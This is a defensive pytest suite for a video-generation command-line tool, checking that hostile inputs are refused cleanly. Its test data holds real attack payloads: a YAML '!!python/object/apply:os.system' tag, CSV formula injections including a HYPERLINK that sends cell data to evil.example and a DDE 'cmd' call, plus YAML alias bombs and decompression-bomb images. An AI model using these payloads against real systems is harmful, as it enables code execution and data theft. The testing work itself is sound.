"""Hostile input to the command line: every bad brief, campaign, photo, video and output folder ends in exit 2
(1 for a full disk) with the field, the value and the fix named, no traceback, the user's files untouched and
nothing half-made left; small inputs cannot cost much (decompression bombs, alias bombs, deep nesting, huge
briefs); spreadsheet cells cannot run formulas; backends looked up from many threads at once. (Kills of make and batch:
test_faults.py.)"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline.cli import main
from tests.hostile.conftest import (CLI_SCALE, TINY, alias_bomb, genvideo, made_files, out_root, peak_rss_mb,
                                    tmpfs, tree_digest, write_json)

pytestmark = pytest.mark.hostile


def cli(*args):
    res = CliRunner().invoke(main, [str(a) for a in args])
    return res.exit_code, res.output


def product(**over) -> dict:
    return {**TINY, "product": {**TINY["product"], **over}}


DEEP = "[" * 100_000 + "]" * 100_000
NESTED = {**TINY, "product": {**TINY["product"], "features": json.loads("[" * 20 + '"x"' + "]" * 20)}}

# name -> (file name, content: dict or text, fragments the message must hold); every one must exit 2
BRIEFS = {
    "product-a-list": ("b.json", {"product": ["Tote"]}, ["product", "valid dictionary", '["Tote"]']),
    "product-a-string": ("b.json", {"product": "Tote"}, ["product", "valid dictionary"]),
    "features-an-object": ("b.json", product(features={"a": 1}), ["product.features", "valid list"]),
    "nul-in-name": ("b.json", product(name="To\x00te"), ["product.name", "U+0000", "remove it"]),
    "nul-in-image-path": ("b.json", product(images=["a\x00.png"]), ["product.images[0]", "U+0000"]),
    "escape-in-description": ("b.json", product(description="Nice \x1b[31m tote"), ["product.description",
                                                                                  "U+001B"]),
    "nul-in-a-key": ("b.json", {**TINY, "product": {**TINY["product"], "na\x00me": "x"}}, ["U+0000"]),
    "deep-json": ("b.json", DEEP, ["nested too deeply"]),
    "nested-20-levels": ("b.json", NESTED, ["product.features", "nested more than 16"]),
    "21-features": ("b.json", product(features=[f"point {i}" for i in range(21)]),
                    ["product.features", "at most 20", "shorten it"]),
    "long-description": ("b.json", product(description="A sturdy tote. " * 400), ["product.description",
                                                                                   "5000", "shorten it"]),
    "long-feature": ("b.json", product(features=["very " * 45 + "roomy"]), ["product.features[0]", "200"]),
    "300-kb-file": ("b.json", {**TINY, "glossary": {f"term{i}": "x" * 280 for i in range(1000)}}, ["256 KB"]),
    "yaml-alias": ("b.yaml", "p: &p {name: Tote, description: A sturdy tote.}\nproduct: *p\n",
                   ["line 2", "aliases (*p)", "write the values out"]),
    "yaml-billion-laughs": ("b.yaml", alias_bomb(9), ["aliases", "write the values out"]),
    "yaml-merge-key": ("b.yaml", "base: &b {name: Tote}\nproduct:\n  <<: *b\n  description: A tote.\n",
                       ["aliases"]),
    "yaml-deep": ("b.yaml", "product: " + "[" * 5000 + "]" * 5000 + "\n", ["nested too deeply"]),
    "yaml-python-tag": ("b.yaml", "product: !!python/object/apply:os.system ['touch pwned']\n", ["not valid YAML"]),
    "arabic": ("b.json", product(name="حقيبة", description="حقيبة قماشية متينة تتسع لجهاز كمبيوتر محمول وغداء"),
               ["product.description", "Arabic", "Chinese, English and Japanese"]),
    "korean": ("b.json", product(name="토트백", description="노트북과 점심 도시락이 들어가는 튼튼한 린넨 토트백입니다"),
               ["product.description", "Korean"]),
    "russian": ("b.json", product(description="Прочная льняная сумка, в которую помещается ноутбук и обед"),
                ["product.description", "Cyrillic"]),
    "french": ("b.json", product(description="Un sac en lin solide pour votre ordinateur et le déjeuner, avec une "
                                             "poche dans la doublure"), ["product.description", "French"]),
    "nan-duration": ("b.json", '{"product": {"name": "Tote", "description": "A tote."}, "duration_s": NaN}',
                     ["duration_s", "NaN"]),
    "not-utf8": ("b.json", "latin1", ["UTF-8"]),
}


def write_case(folder: Path, name: str) -> Path:
    fname, content, _ = BRIEFS[name]
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / fname
    if content == "latin1":
        path.write_bytes('{"product": {"name": "Café", "description": "Un café crème."}}'.encode("latin-1"))
    elif isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    else:
        path.write_text(json.dumps(content, ensure_ascii=False), encoding="utf-8")
    return path


@pytest.mark.hostile("errors: bad briefs")
@pytest.mark.parametrize("command", ["check", "script", "make"])
@pytest.mark.parametrize("case", list(BRIEFS))
def test_a_bad_brief_is_exit_2_with_field_value_and_fix(tmp_path, case, command):
    brief = write_case(tmp_path / "in", case)
    before = tree_digest(tmp_path / "in")
    out = tmp_path / "out"
    t = time.perf_counter()
    code, output = cli(command, brief, *(["--out", out, "--scale", CLI_SCALE] if command == "make" else []))
    took = time.perf_counter() - t
    assert code == 2, output
    assert "Traceback" not in output and "error: unexpected" not in output, output
    for fragment in BRIEFS[case][2]:
        assert fragment in output, output
    assert tree_digest(tmp_path / "in") == before and not (tmp_path / "in" / "pwned").exists()
    assert not made_files(out), made_files(out)
    assert took < 5, f"{case}: {took:.1f} s to refuse"


@pytest.mark.hostile("errors: bad briefs")
@pytest.mark.parametrize("over, flags, fragments", [
    ({"voice": "nosuchvoice"}, [], ["b.json: voice = 'nosuchvoice'", "genvideo voices --lang en"]),
    ({"voice": "missing/style.npy"}, [], ["b.json: voice = 'missing/style.npy'", "no such voice file"]),
    ({"voice": "en_US-joe-medium", "language": "zh", "product": {"name": "托特包", "description": "结实的亚麻托特包。"}},
     [], ["b.json: voice = 'en_US-joe-medium'", "does not speak 'zh'"]),
    ({}, ["--voice", "nosuchvoice"], ["--voice = 'nosuchvoice'"]),
])
def test_a_bad_voice_is_named_where_it_was_given_and_leaves_no_folder(tmp_path, over, flags, fragments):
    brief = write_json(tmp_path / "in" / "b.json", {**TINY, **over})
    out = tmp_path / "out"
    code, output = cli("make", brief, "--out", out, "--scale", CLI_SCALE, *flags)
    assert code == 2, output
    for fragment in fragments:
        assert fragment in output, output
    if not flags:
        assert "--voice" not in output
    assert "Traceback" not in output and not made_files(out), made_files(out)


@pytest.mark.hostile("errors: bad briefs")
def test_a_brief_that_is_a_folder_or_missing(tmp_path):
    for target, fragment in ((tmp_path, "is a folder"), (tmp_path / "nope.json", "file not found")):
        for command in ("check", "script", "make"):
            code, output = cli(command, target)
            assert code == 2 and fragment in output and "Traceback" not in output, output


@pytest.mark.hostile("errors: bad campaigns")
@pytest.mark.parametrize("text, fragment", [
    ("name: c\nbrief: b.json\naxes: &x {hook: [pain]}\nmore: *x\n", "aliases (*x)"),
    (alias_bomb(9).replace("product:\n  name: Tote\n  description:", "name: c\nbrief: b.json\naxes:\n  hook:"),
     "aliases"),
    ("name: c\nbrief: b.json\naxes: " + "[" * 3000 + "]" * 3000, "nested too deeply"),
    ("name: c\nbrief: b.json\naxes:\n  persona: [{name: \"=cmd|' /C calc'!A0\", tone: \"\x07\"}]\n", "not valid YAML"),
])
@pytest.mark.parametrize("command", ["batch", "preview"])
def test_a_bad_campaign_is_exit_2(tmp_path, text, fragment, command):
    write_json(tmp_path / "b.json", TINY)
    (tmp_path / "c.yaml").write_text(text, encoding="utf-8")
    code, output = cli(command, tmp_path / "c.yaml", "--out", tmp_path / "out", "--scale", CLI_SCALE)
    assert code == 2 and fragment in output and "Traceback" not in output, output
    assert not made_files(tmp_path / "out")


# -- bounded cost -----------------------------------------------------------------------------------------------

@pytest.mark.hostile("cost: decompression bombs")
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads the peak memory from /proc")
def test_a_decompression_bomb_is_refused_from_its_header(tmp_path, bombs):
    """A 170 KB PNG declaring 150 megapixels: refused before decoding, at a fraction of what decoding would take
    (it took 1.8 GB before)."""
    folder = tmp_path / "in"
    (folder / "photos").mkdir(parents=True)
    (folder / "photos" / "bomb.png").write_bytes(bombs["150mp"].read_bytes())
    brief = write_json(folder / "b.json", product(images=["photos/bomb.png"]))
    code, err, peak = peak_rss_mb("make", brief, "--out", tmp_path / "out", "--scale", CLI_SCALE)
    assert code == 2, err
    assert "product.images[0]" in err and "15000x10000" in err and "the limit is 64 megapixels" in err, err
    assert peak < 300, f"peak RSS {peak:.0f} MB"
    assert not made_files(tmp_path / "out")


@pytest.mark.hostile("cost: decompression bombs")
def test_the_pixel_limit_is_per_call_not_raised_for_the_process(tmp_path, bombs):
    """After an ordinary photo was loaded (any job), Pillow's own limit is what Pillow set, and a 256 MP PNG is
    still refused."""
    code = f"""
import PIL.Image as I
default = I.MAX_IMAGE_PIXELS
from pipeline.media.images import load_image
from pipeline.errors import AssetError
I.new("RGB", (64, 64)).save({str(tmp_path / 'ok.png')!r})
load_image({str(tmp_path / 'ok.png')!r}, "product.images[0]")
assert I.MAX_IMAGE_PIXELS == default, I.MAX_IMAGE_PIXELS
try:
    load_image({str(bombs['256mp'])!r}, "product.images[1]")
except AssetError as e:
    print("REFUSED", e)
"""
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stderr
    assert "REFUSED product.images[1]" in res.stdout and "megapixels" in res.stdout, res.stdout


@pytest.mark.hostile("cost: decompression bombs")
def test_a_large_real_jpeg_is_still_accepted(tmp_path):
    """What the limit must not refuse: a 67 MP phone-size JPEG decodes at a quarter scale (the DCT downscale)."""
    from PIL import Image

    from pipeline.media.images import MAX_SIDE, load_image

    Image.new("RGB", (8192, 8192), (200, 120, 40)).save(tmp_path / "big.jpg", quality=60)
    img = load_image(tmp_path / "big.jpg", "product.images[0]")
    assert max(img.size) == MAX_SIDE


@pytest.mark.hostile("cost: writer and caps")
@pytest.mark.parametrize("command", ["check", "script"])
def test_the_largest_brief_allowed_is_still_cheap(tmp_path, command):
    """At every cap at once (20 features of 200 characters, 5000 characters of description, 20 pain points):
    the words take a few seconds at most (100 features took 3.4 s, 1000 took minutes before the caps)."""
    words = "light strong quiet roomy washable padded waterproof zipped recycled".split()
    feats = [" ".join(words[(i + k) % len(words)] for k in range(6)) + f" pocket {i}" for i in range(20)]
    brief = write_json(tmp_path / "b.json", {
        **TINY, "duration_s": 30,
        "product": {"name": "Tote", "description": ("A sturdy linen tote that holds a laptop. " * 200)[:5000],
                    "features": [((f + " ") * 9)[:200] for f in feats]},
        "persona": {"pain_points": [f"bags that tear after {i} weeks" for i in range(20)]}})
    t = time.perf_counter()
    code, output = cli(command, brief)
    assert code in (0, 1), output          # check: 1 = blocking findings, which is an answer
    assert time.perf_counter() - t < 10


# -- output folders that cannot be written, videos that cannot be read -----------------------------------------

@pytest.fixture(scope="module")
def made(tmp_path_factory, shared_cache) -> Path:
    """One real tiny video and its campaign-free run folder."""
    folder = tmp_path_factory.mktemp("made")
    brief = write_json(folder / "b.json", TINY)
    code, out, err = genvideo("make", brief, "--out", out_root(folder / "out", shared_cache), "--scale", CLI_SCALE,
                              "--quality", "draft",
                              "--json")
    assert code == 0, err
    return Path(json.loads(out)["outputs"][0]["path"])


@pytest.mark.hostile("errors: files and folders")
@pytest.mark.parametrize("cut", ["empty", "header-only", "half", "garbage", "folder"])
def test_verify_on_a_broken_file_is_exit_2(tmp_path, made, cut):
    data = made.read_bytes()
    target = tmp_path / "v.mp4"
    if cut == "folder":
        target.mkdir()
    else:
        target.write_bytes({"empty": b"", "header-only": data[:2000], "half": data[:len(data) // 2],
                            "garbage": os.urandom(50_000)}[cut])
    code, out, err = genvideo("verify", target)
    assert code == 2, (out, err)
    assert "Traceback" not in err and str(target) in err and ("cut short" in err or "not a readable video" in err
                                                              or "not found" in err or "folder" in err), err


READ_ONLY_RUNS = {
    "make": lambda i, ro: ("make", i / "b.json", "--out", ro / "out", "--scale", CLI_SCALE),
    "batch": lambda i, ro: ("batch", i / "c.yaml", "--out", ro / "out", "--scale", CLI_SCALE),
    "preview": lambda i, ro: ("preview", i / "b.json", "--out", ro / "out"),
    "voices": lambda i, ro: ("voices", "--say", "Hello there.", "--voice", "en_US-joe-medium", "--out", ro / "s.wav"),
    "init": lambda i, ro: ("init", ro / "product.json"),
    "studio": lambda i, ro: ("studio", "--out", ro / "out", "--port", "1"),
}


@pytest.mark.hostile("errors: files and folders")
@pytest.mark.parametrize("command", list(READ_ONLY_RUNS))
def test_read_only_output_folders_are_exit_2(tmp_path, command):
    """Every command that writes, pointed at a read-only folder: exit 2 and the fix, no traceback."""
    inputs = tmp_path / "in"
    write_json(inputs / "b.json", TINY)
    (inputs / "c.yaml").write_text("name: ro\nbrief: b.json\nduration_s: 6\naxes: {hook: [pain]}\n", encoding="utf-8")
    with tmpfs(tmp_path / "ro", readonly=True) as ro:
        code, output = cli(*READ_ONLY_RUNS[command](inputs, ro))
    assert code == 2, output
    assert "Traceback" not in output and "unexpected" not in output, output
    assert "Read-only file system" in output, output


@pytest.mark.hostile("errors: files and folders")
@pytest.mark.parametrize("campaign, result", [("c.yaml", "b.json"), ("list.yaml", "b.json"), ("c.yaml", "c.yaml")])
def test_plan_next_with_files_that_are_not_a_campaign_and_results(tmp_path, campaign, result):
    write_json(tmp_path / "b.json", TINY)
    (tmp_path / "c.yaml").write_text("name: c\nbrief: b.json\naxes: {hook: [pain]}\n")
    (tmp_path / "list.yaml").write_text("- 1\n- 2\n")
    code, output = cli("plan-next", tmp_path / campaign, tmp_path / result, "--out", tmp_path / "next.yaml")
    assert code == 2 and "Traceback" not in output and "unexpected" not in output, output
    assert not (tmp_path / "next.yaml").exists()


@pytest.mark.hostile("errors: files and folders")
def test_a_full_disk_while_making_is_exit_1_and_leaves_nothing(tmp_path):
    """A real full disk (a 600 KB tmpfs): the make fails with one line, nothing partial is left, inputs intact."""
    brief = write_json(tmp_path / "in" / "b.json", TINY)
    before = tree_digest(tmp_path / "in")
    with tmpfs(tmp_path / "full", size="600k") as full:
        code, out, err = genvideo("make", brief, "--out", full, "--scale", CLI_SCALE)
        left = [p.name for p in made_files(full)]
    assert code == 1, err
    assert "no space left" in err.lower() and "Traceback" not in err, err
    assert not [n for n in left if n.endswith((".partial", ".mp4", "report.json"))], left
    assert tree_digest(tmp_path / "in") == before


# -- spreadsheets ----------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.hostile("outputs: csv and paths")
def test_formula_cells_are_neutralised_in_campaign_and_results_csv(tmp_path, shared_cache):
    folder = tmp_path / "in"
    write_json(folder / "b.json", TINY)
    personas = [{"name": f, "pain_points": ["bags that tear"]} for f in FORMULAS]
    (folder / "c.json").write_text(json.dumps({"name": "csv-test", "brief": "b.json", "duration_s": 6,
                                               "platforms": ["tiktok"], "axes": {"persona": personas}}))
    code, out, err = genvideo("batch", folder / "c.json", "--out", out_root(tmp_path / "out", shared_cache),
                              "--workers", "1", "--scale",
                              CLI_SCALE, "--quality", "draft", "--json")
    assert code == 0, err
    root = Path(json.loads(out)["folder"])
    cells = [row["persona"] for row in csv.DictReader((root / "campaign.csv").open(encoding="utf-8-sig"))]
    assert sorted(cells) == sorted("'" + f for f in FORMULAS), cells
    ids = [v["id"] for v in json.loads((root / "campaign.json").read_text())["variants"]]
    export = tmp_path / "export.csv"
    export.write_text("variant_id,impressions,clicks\n" + "".join(f"{i},1000,{20 + k}\n" for k, i in enumerate(ids)))
    code, out, err = genvideo("results", root, export)
    assert code == 0, err
    cells = [row["persona"] for row in csv.DictReader((root / "results" / "results.csv").open(encoding="utf-8-sig"))]
    assert sorted(cells) == sorted("'" + f for f in FORMULAS), cells
    # and what a campaign is shared as (its manifest, table and variant briefs) names no path of this machine
    for p in [root / "campaign.json", root / "campaign.csv", *root.glob("briefs/*.json")]:
        text = p.read_text(encoding="utf-8", errors="replace")
        assert str(tmp_path) not in text and str(folder.resolve()) not in text, p


# -- races and orphans -----------------------------------------------------------------------------------------

@pytest.mark.hostile("races and orphans")
def test_backends_looked_up_from_many_threads_at_once(tmp_path):
    """The first lookups of a fresh process from threads arriving one after another while the table fills (two
    studio workers did this: 'unknown llm backend builtin' in 3 of 3 runs before the lock): all succeed."""
    code = """
import threading, time
from pipeline.backends.registry import get_llm, get_tts
errors = []
def look():
    try:
        get_llm("builtin"); get_tts("piper")
    except Exception as e:
        errors.append(repr(e))
ts = []
for _ in range(60):
    ts.append(threading.Thread(target=look)); ts[-1].start(); time.sleep(0.01)
[t.join() for t in ts]
print("ERRORS", errors)
"""
    for _ in range(2):
        res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
        assert "ERRORS []" in res.stdout, res.stdout + res.stderr
